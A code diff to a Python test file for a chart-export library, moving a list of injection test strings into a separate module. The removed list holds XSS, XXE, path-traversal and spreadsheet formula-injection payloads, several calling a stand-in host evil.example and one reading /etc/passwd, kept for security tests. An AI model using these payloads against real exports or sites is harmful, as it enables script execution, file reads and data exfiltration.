@@ -12,6 +12,7 @@ import openpyxl
 import pptx
 import pytest
 from drawable import FORMS
+from injections import INJECTIONS
 from lxml import etree
 from pypdf import PdfReader
 
@@ -21,28 +22,6 @@ from factcheck.charts.model import Form, Spec
 from factcheck.exports.chart.formats import FORMATS, export, read
 from factcheck.exports.chart.rows import plain
 
-INJECTIONS = (
-    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>", '"><svg/onload=alert(1)>', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="',
-    "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>", "<style>@import 'http://evil.example/x.css'</style>",
-    "<link rel=stylesheet href=http://evil.example/x.css>", "<meta http-equiv=refresh content=0;url=http://evil.example>",
-    "<base href=http://evil.example/>", "<object data=http://evil.example/x.swf>", "<embed src=http://evil.example/x>",
-    "<form action=http://evil.example><input type=submit autofocus>", "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)>", "<body onload=alert(1)>", "<math><mtext></mtext><script>alert(1)</script></math>",
-    "]]><script>alert(1)</script>", "--><script>alert(1)</script>", "<!--", "<![CDATA[", "]]>", "<?xml-stylesheet href='x'?>",
-    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "&e;", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
-    "</title><script>alert(1)</script>", "</desc></svg><script>alert(1)</script>", "</style><script>alert(1)</script>",
-    "</metadata><script>alert(1)</script>", "</text><image href='http://evil.example/x.png'/>",
-    "<foreignObject><body onload=alert(1)></foreignObject>", "<use href='http://evil.example/x.svg#a'/>",
-    "<animate attributeName=href values=javascript:alert(1)>", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}",
-    '{"expr": "alert(1)"}', "datum.constructor('alert(1)')()", "'+alert(1)+'", "`alert(1)`", "\\u003cscript\\u003e",
-    "=1+1", '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
-    "\n=1+1", "＝1+1", "'=1+1", " =1+1", '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")',
-    "%0d%0aX: y", "\x00\x01\x02", "\x1b[31mred", "\u202edrowssap", "a\u200bb\ufeffc", "\u2028\u2029", "\ufffe\uffff",
-    "http://evil.example/x", "www.evil.example", "mailto:x@evil.example", "file:///etc/passwd", "[x](http://evil.example)",
-    "![x](http://evil.example/x.png)", "$3 to $5", "%n%s%x", "../../etc/passwd", "A" * 3000, "👩‍👩‍👧 ﷽ Ω≈ç",
-)  # fmt: skip
 FIELDS = tuple(
     field.name
     for field in dataclasses.fields(Stated)
